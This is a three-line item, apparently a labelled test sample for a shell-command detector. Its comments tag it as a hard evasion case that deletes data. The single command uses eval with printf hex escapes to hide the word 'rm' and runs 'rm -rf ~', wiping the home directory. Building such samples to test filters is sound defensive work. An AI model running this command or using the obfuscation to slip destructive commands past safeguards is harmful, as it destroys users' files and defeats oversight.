# evasion: rm named by printf %b escapes in eval
# grade: hard; does: delete
eval "$(printf '%b' '\x72\x6d') -rf ~"
